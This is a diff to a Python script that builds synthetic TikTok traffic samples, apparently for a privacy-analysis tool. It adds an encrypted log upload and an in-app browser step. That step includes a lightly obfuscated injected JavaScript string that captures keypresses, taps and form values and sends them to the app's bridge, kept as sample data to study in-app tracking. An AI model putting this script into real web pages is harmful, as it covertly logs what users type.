@@ -22,6 +22,14 @@ syncing, hashed phone numbers of the address book.
 The package name is TikTok's (`com.zhiliaoapp.musically`), so phonehome's organisation database
 counts TikTok's and ByteDance's hosts as the app's own (first party); its parent is ByteDance.
 
+Two steps show what a proxy alone does not see (docs/inappbrowser.md): one `app_log` upload is sent
+the way the real app sends it, `ttEncrypt(gzip(JSON))` as `application/octet-stream;tt-data=a`
+with `X-SS-STUB`, preceded by the crypto agent's `hook:crypto` event of `EncryptorUtil.ttEncrypt`
+(here a real AES-CBC with a fixed key, the same shape); and after consent the user opens a job
+link in the in-app browser, where the app injects a script (`hook:webview` events of
+`addJavascriptInterface` and `evaluateJavascript`, the script shaped like the one published in
+2022: every key and tap to the app's bridge).
+
 Extend it by adding steps to `steps()` (one list of requests, consent markers and hook events, see
 `captures/_recorder.py`), then re-run the script.
 """
@@ -29,14 +37,17 @@ Extend it by adding steps to `steps()` (one list of requests, consent markers an
 from __future__ import annotations
 
 import argparse
+import base64
+import gzip
 import hashlib
+import json
 import sys
 import uuid
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
 
-from _recorder import REPO, Consent, Pause, Request, Step, record  # noqa: E402
+from _recorder import REPO, Consent, HookEvent, Pause, Request, Step, record  # noqa: E402
 
 from phonehome.analysis.profile import Profile, load_profile  # noqa: E402
 
@@ -88,6 +99,74 @@ def applog_header(p: Profile) -> dict[str, object]:
     }
 
 
+TT_KEY = b"phonehome-sample!"[:16]
+TT_IV = bytes(range(16))
+ENCRYPTOR_STACK = [
+    "com.bytedance.frameworks.encryptor.EncryptorUtil.ttEncrypt(Native Method)",
+    "com.bytedance.applog.network.AppLogNetworkClient.post(SourceFile:212)",
+    "com.bytedance.applog.engine.Sender.doWork(SourceFile:97)",
+    "java.lang.Thread.run(Thread.java:1012)",
+]
+WEBVIEW_STACK = [
+    "android.webkit.WebView.evaluateJavascript(WebView.java:1296)",
+    "com.bytedance.ies.bullet.kit.web.WebKitView.evaluateJs(SourceFile:88)",
+    "com.ss.android.ugc.aweme.crossplatform.InAppBrowserActivity.onPageFinished(SourceFile:301)",
+    "android.webkit.WebViewClient.onPageFinished(WebViewClient.java:95)",
+]
+JOB_PAGE = "https://www.azubi-stellen.example/mechatroniker-berlin/bewerben"
+INJECTED = (
+    "!function(){var d=document,w=window,b=w['TT'+'WebBridge'];function s(e){try{b.postMessage(JSON.stringify("
+    "{type:e.type,key:e.key,target:e.target&&e.target.tagName,value:e.target&&e.target.value,"
+    "x:e.touches?e.touches[0].clientX:e.clientX,y:e.touches?e.touches[0].clientY:e.clientY,t:Date.now()}))}"
+    "catch(r){}}d['add'+'EventListener']('keypress',s,!0);d.addEventListener('touchstart',s,{passive:!0});"
+    "d.addEventListener('click',s,!0)}();"
+)
+
+
+def tt_encrypt(plain: bytes) -> bytes:
+    """The shape of ttEncrypt's output for the sample: AES-128-CBC, IV in front (not ByteDance's format)."""
+    from cryptography.hazmat.primitives import padding
+    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+
+    padder = padding.PKCS7(128).padder()
+    enc = Cipher(algorithms.AES(TT_KEY), modes.CBC(TT_IV)).encryptor()
+    return TT_IV + enc.update(padder.update(plain) + padder.finalize()) + enc.finalize()
+
+
+def encrypted_app_log(p: Profile, q: str, header: dict[str, object]) -> list[Step]:
+    plain = gzip.compress(json.dumps({
+        "magic_tag": "ss_app_log", "header": header, "_gen_time": TS * 1000 + 5000,
+        "event_v3": [{"event": "enter_homepage_hot", "params": {"enter_method": "launch", "network_type": "wifi"}}],
+    }, separators=(",", ":")).encode(), mtime=0)
+    body = tt_encrypt(plain)
+    return [
+        HookEvent({"type": "hook:crypto", "agent": "crypto", "api": "EncryptorUtil.ttEncrypt",
+                   "class": "com.bytedance.frameworks.encryptor.EncryptorUtil", "method": "ttEncrypt",
+                   "algorithm": "tt-encrypt", "op": "encrypt", "phase": "final", "app_level": True,
+                   "input_b64": base64.b64encode(plain).decode(), "input_size": len(plain),
+                   "output_b64": base64.b64encode(body).decode(), "output_size": len(body),
+                   "thread": "applog_sender", "stack": ENCRYPTOR_STACK, "sdk": "com.bytedance",
+                   "org": "ByteDance", "sdk_frame": ENCRYPTOR_STACK[0]}),
+        Request(f"{LOG}/service/2/app_log/?tt_data=a&{q}", body=body,
+                headers={"Content-Type": "application/octet-stream;tt-data=a",
+                         "X-SS-STUB": hashlib.md5(body).hexdigest().upper()}),
+    ]
+
+
+def in_app_browser() -> list[Step]:
+    common = {"agent": "api", "class": "android.webkit.WebView", "thread": "main", "sdk": "com.bytedance",
+              "org": "ByteDance"}
+    return [
+        HookEvent({**common, "type": "hook:webview", "api": "WebView.addJavascriptInterface",
+                   "method": "addJavascriptInterface", "name": "TTWebBridge",
+                   "object_class": "com.bytedance.ies.web.jsbridge2.JsBridge2$WebBridge",
+                   "stack": ["android.webkit.WebView.addJavascriptInterface(WebView.java:1801)", *WEBVIEW_STACK[1:]]}),
+        HookEvent({**common, "type": "hook:webview", "api": "WebView.evaluateJavascript",
+                   "method": "evaluateJavascript", "script": INJECTED, "page_url": JOB_PAGE,
+                   "stack": WEBVIEW_STACK, "sdk_frame": WEBVIEW_STACK[1]}),
+    ]
+
+
 def steps(p: Profile) -> list[Step]:
     d = p.device
     q = common_query(p)
@@ -107,6 +186,7 @@ def steps(p: Profile) -> list[Step]:
                                                    "network_type": "wifi", "battery": 87}},
                 {"event": "app_alert_check", "params": {"installed_apps": list(p.installed_apps)}},
             ]}),
+        *encrypted_app_log(p, q, header),
         Request("https://mon.tiktokv.com/monitor/collect/c/session?" + q, json={
             "header": {"device_id": DEVICE_ID, "install_id": INSTALL_ID, "device_model": d["model"],
                        "os_version": d["os_version"], "carrier": d["carrier"], "access": "wifi",
@@ -146,6 +226,7 @@ def steps(p: Profile) -> list[Step]:
                                               "id": d["android_id"]},
                                    "locale": "de-DE", "ip": d["local_ip"], "user_agent": UA,
                                    "network": {"carrier": d["carrier"]}}}]}),
+        *in_app_browser(),  # opens a job link from a video in the in-app browser
         Pause(4.0),  # watches more videos
         Request(f"{API}/aweme/v1/commit/follow/user/?user_id=6812345678&type=1&{q}", method="POST",
                 body=b"user_id=6812345678&type=1&channel_id=0&from=19",
